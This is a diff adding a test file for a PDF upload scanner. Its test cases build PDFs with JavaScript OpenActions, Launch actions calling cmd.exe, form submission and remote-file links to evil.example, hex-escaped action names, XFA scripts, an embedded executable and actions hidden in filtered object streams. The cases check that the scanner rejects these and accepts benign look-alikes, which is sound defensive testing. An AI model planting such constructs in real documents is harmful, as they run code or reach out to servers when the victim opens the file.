@@ -1,0 +1,218 @@
+import { deflateSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { buildPdf } from '../../../../test/fixtures/files/build-pdf.js';
+import { ascii85, asciiHex, lzw, runLength } from '../../../../test/fixtures/files/pdf-encoders.js';
+import { samples } from '../../../../test/fixtures/files/samples.js';
+import { createBuiltinScanner } from './builtin-scanner.js';
+import { bytesSubject } from './bytes-subject.js';
+
+const scan = async (bytes: Uint8Array) => {
+  const result = await createBuiltinScanner().scan(bytesSubject('cv.pdf', bytes));
+  return {
+    ...result,
+    rules: result.findings.map((f) => f.rule),
+    details: result.findings.map((f) => f.detail),
+  };
+};
+
+const embedded = (name: string, data: Buffer) => ({
+  catalogExtra: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>',
+  objects: [
+    { dict: '/Type /EmbeddedFile /Filter /FlateDecode', data: deflateSync(data) },
+    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 7 0 R >> >>`,
+  ],
+});
+
+describe('PDF check: names only where they are names', () => {
+  it.each([
+    [
+      'a job title in the document information',
+      '/Title (Senior JavaScript Engineer) /Subject (/JavaScript /Launch)',
+    ],
+    [
+      'a link to a page about JavaScript',
+      '/OpenAction << /S /URI /URI (https://example.com/JavaScript/Launch) >>',
+    ],
+    [
+      'a glyph named AA in a font encoding',
+      '/Enc << /Type /Encoding /Differences [1 /AA /JS /Launch /JavaScript] >>',
+    ],
+    ['additional actions that only go to a page', '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>'],
+    ['showing or hiding a layer', '/OpenAction << /S /SetOCGState /State [/OFF 9 0 R] >>'],
+    ['a named action', '/OpenAction << /S /Named /N /NextPage >>'],
+    ['a GoToR to a file beside it', '/OpenAction << /S /GoToR /F (annex.pdf) /D [0 /Fit] >>'],
+    ['a hex string that spells a name', '/Title <2f4a617661536372697074>'],
+    ['a comment that holds an action', '% /S /JavaScript /JS (x)\n/Lang (en)'],
+  ])('accepts %s', async (_what, extra) => {
+    const r = await scan(buildPdf({ catalogExtra: extra }));
+    expect(r.findings).toEqual([]);
+    expect(r.kind).toBe('clean');
+  });
+
+  it('accepts JavaScript words in a content stream', async () => {
+    const content = Buffer.from('BT (/S /JavaScript /JS (x) /Launch) Tj ET');
+    const r = await scan(buildPdf({ objects: [{ dict: '', data: content }] }));
+    expect(r.kind).toBe('clean');
+  });
+});
+
+describe('PDF check: what runs or reaches out', () => {
+  it.each([
+    ['/OpenAction << /S /JavaScript /JS (app.alert(1)) >>', 'pdf-javascript'],
+    ['/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>', 'pdf-javascript'],
+    ['/Names << /JavaScript << /Names [(x) 9 0 R] >> >>', 'pdf-javascript'],
+    ['/AA << /O << /S /JavaScript /JS (x) >> >>', 'pdf-javascript'],
+    ['/OpenAction << /S /Launch /F (cmd.exe) >>', 'pdf-launch'],
+    ['/OpenAction << /S /ImportData /F (data.fdf) >>', 'pdf-import-data'],
+    ['/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>', 'pdf-submit-form'],
+    [
+      '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
+      'pdf-remote-file',
+    ],
+    [
+      '/OpenAction << /S /GoToR /F << /FS /URL /F (http://evil.example/x.pdf) >> /D [0 /Fit] >>',
+      'pdf-remote-file',
+    ],
+    ['/OpenAction << /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>', 'pdf-remote-file'],
+    ['/Annots [<< /Subtype /RichMedia /RichMediaContent 9 0 R >>]', 'pdf-richmedia'],
+  ])('refuses %s', async (extra, rule) => {
+    const r = await scan(buildPdf({ catalogExtra: extra }));
+    expect(r.kind).toBe('rejected');
+    expect(r.rules).toContain(rule);
+  });
+
+  it('names the object that holds the action', async () => {
+    const r = await scan(
+      buildPdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'], catalogExtra: '/OpenAction 7 0 R' }),
+    );
+    expect(r.details.join(' ')).toMatch(/Launch action.*object 7/);
+  });
+
+  it('follows a GoToR whose file specification is an object of its own', async () => {
+    const pdf = buildPdf({
+      catalogExtra: '/OpenAction << /S /GoToR /F 7 0 R /D [0 /Fit] >>',
+      objects: ['<< /Type /Filespec /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) >>'],
+    });
+    expect((await scan(pdf)).rules).toContain('pdf-remote-file');
+  });
+
+  it.each([
+    ['Flate', { filter: '/FlateDecode', encode: (d: Buffer) => deflateSync(d) }],
+    ['LZW', { filter: '/LZWDecode', encode: lzw }],
+    ['ASCIIHex', { filter: '/ASCIIHexDecode', encode: asciiHex }],
+    ['ASCII85', { filter: '/ASCII85Decode', encode: ascii85 }],
+    ['RunLength', { filter: '/RunLengthDecode', encode: runLength }],
+    [
+      'ASCII85 over Flate',
+      { filter: '[/ASCII85Decode /FlateDecode]', encode: (d: Buffer) => ascii85(deflateSync(d)) },
+    ],
+  ])('reads an object stream behind %s', async (_name, objStmFilter) => {
+    const bad = await scan(buildPdf({ objStm: '<< /S /JavaScript /JS (app.alert(1)) >>', objStmFilter }));
+    expect(bad.rules).toContain('pdf-javascript');
+    expect(bad.details.join(' ')).toContain('object 5');
+    const good = await scan(buildPdf({ objStm: '<< /Title (JavaScript in depth) >>', objStmFilter }));
+    expect(good.kind).toBe('clean');
+  });
+
+  it('refuses an object stream behind a filter it cannot decode', async () => {
+    const r = await scan(
+      buildPdf({
+        objStm: '<< /S /JavaScript >>',
+        objStmFilter: { filter: '/JBIG2Decode', encode: (d) => d },
+      }),
+    );
+    expect(r.rules).toContain('pdf-unscannable');
+  });
+
+  it('reads an object hidden inside stream data, where a cross-reference table can point', async () => {
+    const pdf = buildPdf({ padTo: 4000 });
+    pdf.write('9 0 obj << /S /J#61vaScript /JS (x) >> endobj', pdf.indexOf('AAAA') + 1000, 'latin1');
+    expect((await scan(pdf)).rules).toContain('pdf-javascript');
+  });
+
+  it('ignores action names that are not in a dictionary, even inside binary stream data', async () => {
+    const pdf = buildPdf({ padTo: 4000 });
+    pdf.write('/JS /AA /Launch /JavaScript ', pdf.indexOf('AAAA') + 1000, 'latin1');
+    expect((await scan(pdf)).kind).toBe('clean');
+  });
+
+  it('finds an action cut across two chunks', async () => {
+    const pdf = buildPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (x) >>' });
+    const at = pdf.indexOf('/JavaScript') + 5;
+    const subject = {
+      ...bytesSubject('cv.pdf', pdf),
+      async *stream() {
+        yield pdf.subarray(0, at);
+        yield pdf.subarray(at);
+      },
+    };
+    const r = await createBuiltinScanner().scan(subject);
+    expect(r.findings.map((f) => f.rule)).toContain('pdf-javascript');
+  });
+
+  it('is not fooled by the word stream inside a string or a comment', async () => {
+    const inString = buildPdf({ catalogExtra: '/Title (stream) /OpenAction << /S /JavaScript /JS (a) >>' });
+    expect((await scan(inString)).rules).toContain('pdf-javascript');
+    const withEol = buildPdf({
+      catalogExtra: '/Title (x stream\n) /OpenAction << /S /J#61vaScript /JS (a) >>',
+    });
+    expect((await scan(withEol)).rules).toContain('pdf-javascript');
+    const comment = buildPdf({ catalogExtra: '% stream\n/OpenAction << /S /Launch /F (cmd.exe) >>' });
+    expect((await scan(comment)).rules).toContain('pdf-launch');
+  });
+});
+
+describe('PDF check: forms, attachments, encryption', () => {
+  it('refuses an XFA form with a script and accepts one without', async () => {
+    const xfa = (body: string) =>
+      buildPdf({
+        catalogExtra: '/AcroForm << /Fields [] /XFA [(template) 7 0 R] >>',
+        objects: [{ dict: '/Filter /FlateDecode', data: deflateSync(`<template>${body}</template>`) }],
+      });
+    expect((await scan(xfa('<field><event><script>app.alert(1)</script></event></field>'))).rules).toContain(
+      'pdf-xfa',
+    );
+    expect((await scan(xfa('<field name="surname"/>'))).kind).toBe('clean');
+  });
+
+  it('inspects an attached file as an upload and refuses a program', async () => {
+    const r = await scan(buildPdf(embedded('invoice.exe', samples.pe)));
+    expect(r.rules).toContain('pdf-embedded-file');
+    expect(r.details.join(' ')).toContain('invoice.exe');
+  });
+
+  it('accepts an attached file of an accepted type', async () => {
+    expect((await scan(buildPdf(embedded('photo.png', samples.png)))).kind).toBe('clean');
+    expect((await scan(buildPdf(embedded('cv.pdf', buildPdf())))).kind).toBe('clean');
+  });
+
+  it('refuses an attached PDF that runs JavaScript', async () => {
+    const inner = buildPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (x) >>' });
+    expect((await scan(buildPdf(embedded('a.pdf', inner)))).rules).toContain('pdf-embedded-file');
+  });
+
+  it('accepts an encrypted PDF whose dictionaries are all in plain sight', async () => {
+    expect((await scan(buildPdf({ trailerExtra: '/Encrypt 9 0 R' }))).kind).toBe('clean');
+    expect(
+      (
+        await scan(
+          buildPdf({
+            trailerExtra: '/Encrypt 9 0 R',
+            catalogExtra: '/OpenAction << /S /JavaScript /JS <00> >>',
+          }),
+        )
+      ).rules,
+    ).toContain('pdf-javascript');
+  });
+
+  it('refuses an encrypted PDF whose object streams cannot be read', async () => {
+    const r = await scan(
+      buildPdf({
+        trailerExtra: '/Encrypt 9 0 R',
+        objStm: '<< /Title (x) >>',
+        objStmFilter: { filter: '/FlateDecode', encode: (d) => Buffer.from(d.map((b) => b ^ 0x5a)) },
+      }),
+    );
+    expect(r.rules).toEqual(['pdf-encrypted']);
+  });
+});
